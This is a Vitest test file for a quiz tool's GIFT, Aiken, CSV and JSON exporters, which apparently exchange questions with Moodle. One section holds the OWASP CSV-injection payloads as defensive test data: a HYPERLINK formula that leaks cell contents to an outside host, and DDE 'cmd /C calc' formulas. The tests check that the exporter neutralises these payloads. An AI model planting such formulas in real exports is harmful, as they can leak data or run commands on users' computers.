import { describe, expect, it } from 'vitest';
import {
	aikenProblem,
	parseGift,
	toAiken,
	toCsv,
	toGift,
	toJson
} from '../../src/lib/server/exchange/formats';
import { MAX_GIFT_BLOCKS } from '../../src/lib/server/exchange/gift';
import { readCsv } from '../fixtures/csv';

const QUESTIONS = [
	{
		stem: 'Who cut the ribbon?',
		options: ['Elena Vasquez', 'Priya Nair', 'Martin Osei', 'Tomas Lindqvist'],
		answerIndex: 0
	},
	{
		stem: 'What did it cost: {about} $12 million = "a lot"?',
		options: ['1:2', 'a~b', '#3', 'back\\slash'],
		answerIndex: 2
	},
	{ stem: 'Which line,\nwith a break?', options: ['=5', '+1', '-2', '@x'], answerIndex: 3 }
];

describe('GIFT', () => {
	it('exports then imports the same questions, special characters included', () => {
		const gift = toGift('Harbour', QUESTIONS);
		expect(gift).toContain('::Q1:: Who cut the ribbon? {\n\t=Elena Vasquez\n\t~Priya Nair');
		expect(gift).toContain('\\{about\\} $12 million \\= "a lot"');
		expect(parseGift(gift)).toEqual({
			ok: true,
			questions: QUESTIONS.map((q, index) => ({ ...q, number: index + 1 })),
			skipped: []
		});
	});

	it('carries each question’s skill: a GIFT comment, a CSV column and a JSON field', () => {
		const tagged = [
			{ ...QUESTIONS[0]!, skill: 'cause-effect' as const },
			{ ...QUESTIONS[1]!, skill: 'key-details' as const }
		];
		const gift = toGift('Harbour', tagged);
		expect(gift).toContain('// Skill: Cause and effect\n::Q1:: Who cut the ribbon?');
		expect(gift).toContain('// Skill: Key details\n::Q2::');
		// Read back, the comment is skipped and the questions are as they were.
		expect(parseGift(gift)).toMatchObject({ ok: true, questions: [QUESTIONS[0], QUESTIONS[1]] });
		expect(toCsv(tagged).split('\r\n')[1]).toMatch(/,Elena Vasquez,Cause and effect$/);
		const json = JSON.parse(toJson('Harbour', tagged)) as { questions: { skill: string }[] };
		expect(json.questions.map((q) => q.skill)).toEqual(['cause-effect', 'key-details']);
	});

	it('reads Moodle’s own spellings: titles, comments, categories, feedback, one line', () => {
		const file = `$CATEGORY: tides\n// a comment\n::Tide:: When is high tide? {~At dawn#No. =At noon#Yes. ~At dusk ~At midnight}\n\nWho keeps it?{\n=Ann\n~Bo\n~Cy\n~Di\n}`;
		expect(parseGift(file)).toEqual({
			ok: true,
			questions: [
				{
					stem: 'When is high tide?',
					options: ['At dawn', 'At noon', 'At dusk', 'At midnight'],
					answerIndex: 1,
					number: 1
				},
				{ stem: 'Who keeps it?', options: ['Ann', 'Bo', 'Cy', 'Di'], answerIndex: 0, number: 2 }
			],
			skipped: []
		});
	});

	it.each([
		['Grass is green. {T}', /not a multiple-choice/],
		['Pick two {~%50%a ~%50%b ~%-100%c ~%-100%d}', /partial credit/],
		['Two right {=a =b ~c ~d}', /one right answer/],
		['Three only {=a ~b ~c}', /four options/],
		['No block at all', /no single/]
	])('skips %s', (text, reason) => {
		expect(parseGift(text)).toEqual({
			ok: true,
			questions: [],
			skipped: [{ number: 1, reason: expect.stringMatching(reason) as unknown }]
		});
	});

	it('reads 1,000 blocks and refuses a file of more before reading any (issue 12, F6)', () => {
		const blocks = (n: number) => Array.from({ length: n }, (_, i) => `Item ${i}`).join('\n\n');
		const most = parseGift(blocks(MAX_GIFT_BLOCKS));
		expect(most.ok && most.skipped.length).toBe(1_000);
		// The probe's file: 1 MiB of tiny blocks.
		expect(parseGift('{}\n\n'.repeat(262_144))).toEqual({
			ok: false,
			error:
				'The file has 262,144 parts between blank lines; one import reads at most 1,000. Split it into smaller files.'
		});
		expect(parseGift(blocks(1_001))).toMatchObject({ ok: false, error: /has 1,001 parts/ });
	});
});

describe('the other formats', () => {
	it('writes Aiken with one line per part and the answer letter', () => {
		expect(toAiken(QUESTIONS.slice(2))).toBe(
			'Which line, with a break?\nA. =5\nB. +1\nC. -2\nD. @x\nANSWER: D\n'
		);
	});

	// Stems and options Moodle's Aiken reader would take for something else (issue 12, F11).
	const q = (stem: string, options = ['one', 'two', 'three', 'four']) => ({
		stem,
		options,
		answerIndex: 1
	});
	it.each([
		[q('ANSWER: B'), /starts with “ANSWER:”/],
		[q('  ANSWER:B is it?'), /starts with “ANSWER:”/],
		[q('A. fake'), /starts like an option/],
		[q('B) fake'), /starts like an option/],
		[q('U.S. officials said what?'), /starts like an option/],
		[q('\u0000C.fake'), /starts like an option/],
		[q('\nD. on a second line'), /starts like an option/],
		[q('?'), /too short/],
		[q('Which one?', ['one', ' ', 'three', 'four']), /Option B is empty/]
	])('leaves %o out of Aiken', (question, reason) => {
		expect(aikenProblem(question)).toMatch(reason);
		expect(toAiken([question])).toBe('');
	});

	it.each([
		q('Which line,\nANSWER: B, came second?'),
		q('a. lower case is a question'),
		q('Which option?', ['A. fake', 'ANSWER: C', 'B) x', '\nD. y']),
		q('Answer: which?')
	])('writes %o to Aiken so Moodle reads it back as it is', (question) => {
		expect(aikenProblem(question)).toBeNull();
		const oneLine = (text: string) => text.replace(/\s+/g, ' ').trim();
		expect(readAikenAsMoodle(toAiken([question, ...QUESTIONS]))).toEqual(
			[question, ...QUESTIONS].map((x) => ({
				stem: oneLine(x.stem),
				options: x.options.map(oneLine),
				answerIndex: x.answerIndex
			}))
		);
	});

	it('leaves out only the questions Moodle would misread', () => {
		const file = toAiken([QUESTIONS[0]!, q('A. fake'), QUESTIONS[1]!, q('ANSWER: B')]);
		expect(readAikenAsMoodle(file)).toEqual([QUESTIONS[0], QUESTIONS[1]]);
		// Two questions of six lines each: nothing of the other two is written.
		expect(file.split('\n').filter(Boolean)).toHaveLength(12);
	});

	it('writes CSV that quotes what needs it and never starts a cell with a formula', () => {
		const csv = toCsv(QUESTIONS);
		const lines = csv.split('\r\n');
		expect(lines[0]).toBe('Question,Option A,Option B,Option C,Option D,Answer,Skill');
		expect(lines[1]).toBe(
			'Who cut the ribbon?,Elena Vasquez,Priya Nair,Martin Osei,Tomas Lindqvist,Elena Vasquez,'
		);
		expect(lines[2]).toBe(
			'"What did it cost: {about} $12 million = ""a lot""?",1:2,a~b,#3,back\\slash,#3,'
		);
		expect(csv).toContain(`"Which line,\nwith a break?",'=5,'+1,'-2,'@x,'@x,`);
	});

	// The payloads of https://owasp.org/www-community/attacks/CSV_Injection: a formula character,
	// tab or carriage return first, or a separator or quote to start a new cell inside the text.
	const OWASP = [
		'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
		"=cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"+1+cmd|' /C calc'!A0",
		"-1+cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'\n=1+1',
		';=1+1',
		',=1+1',
		'\0=1+1',
		'Harbour;=1+1',
		'Harbour,=1+1',
		'Harbour\t=1+1',
		'Harbour\r\n=1+1',
		'Harbour",=1+1',
		"Harbour';=1+1"
	];

	it.each([',', ';', '\t'])(
		'writes CSV where no cell starts a formula, read with %j as the separator',
		(separator) => {
			const questions = OWASP.map((payload, n) => ({
				stem: payload,
				options: [`${n}`, payload, `b${n}`, `c${n}`],
				answerIndex: 1
			}));
			const cells = readCsv(toCsv(questions), separator).flat();
			expect(cells.join('')).toContain("cmd|' /C calc'!A0");
			expect(cells.filter((value) => /^"*[=+\-@\t\r\n\0;,]/.test(value))).toEqual([]);
		}
	);

	it('keeps each payload readable, with an apostrophe before each formula', () => {
		const questions = OWASP.map((stem) => ({
			stem,
			options: ['a', 'b', 'c', stem],
			answerIndex: 3
		}));
		const rows = readCsv(toCsv(questions), ',').slice(1);
		// Question, four options, the answer, the skill.
		expect(rows.map((row) => row.length)).toEqual(OWASP.map(() => 7));
		expect(rows.map((row) => row[0])).toEqual(rows.map((row) => row[4]));
		expect(rows.map((row) => row[0])).toEqual([
			'\'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
			"'=cmd|' /C calc'!A0",
			"'@SUM(1+9)*cmd|' /C calc'!A0",
			"'+1+cmd|' /C calc'!A0",
			"'-1+cmd|' /C calc'!A0",
			"'\t'=1+1",
			"'\n'=1+1",
			"'\n'=1+1",
			"';'=1+1",
			"','=1+1",
			"'\0=1+1",
			"Harbour;'=1+1",
			"Harbour,'=1+1",
			"Harbour\t'=1+1",
			"Harbour\n'=1+1",
			'Harbour",\'=1+1',
			"Harbour';'=1+1"
		]);
	});

	it('writes JSON with the answer given both ways', () => {
		const json = JSON.parse(toJson('Harbour', QUESTIONS.slice(0, 1))) as unknown;
		expect(json).toEqual({
			title: 'Harbour',
			questions: [{ ...QUESTIONS[0], answer: 'Elena Vasquez' }]
		});
	});
});

/**
 * Reads an Aiken file as Moodle does (question/format/aiken/format.php, readquestions): lines split
 * at \n and \r, trimmed, under 2 characters skipped; a capital letter and "." or ")" starts an option,
 * "ANSWER:" ends the question, anything else starts a new one (dropping an unfinished one).
 */
function readAikenAsMoodle(text: string) {
	const questions: { stem: string; options: string[]; answerIndex: number }[] = [];
	let open: { stem: string; options: string[] } | null = null;
	for (const raw of text.split(/\n|\r/)) {
		const line = raw.replace(/^[ \t\n\r\0\v]+|[ \t\n\r\0\v]+$/g, '');
		if (line.length < 2) continue;
		if (/^[A-Z][).][ \t]?/.test(line)) {
			if (open) open.options.push(line.slice(2).trim());
		} else if (/^ANSWER:/.test(line)) {
			const letter = line.slice(line.indexOf(':') + 1).trim()[0] ?? '';
			if (open && open.options.length >= 2)
				questions.push({ ...open, answerIndex: letter.charCodeAt(0) - 65 });
			open = null;
		} else open = { stem: line, options: [] };
	}
	return questions;
}
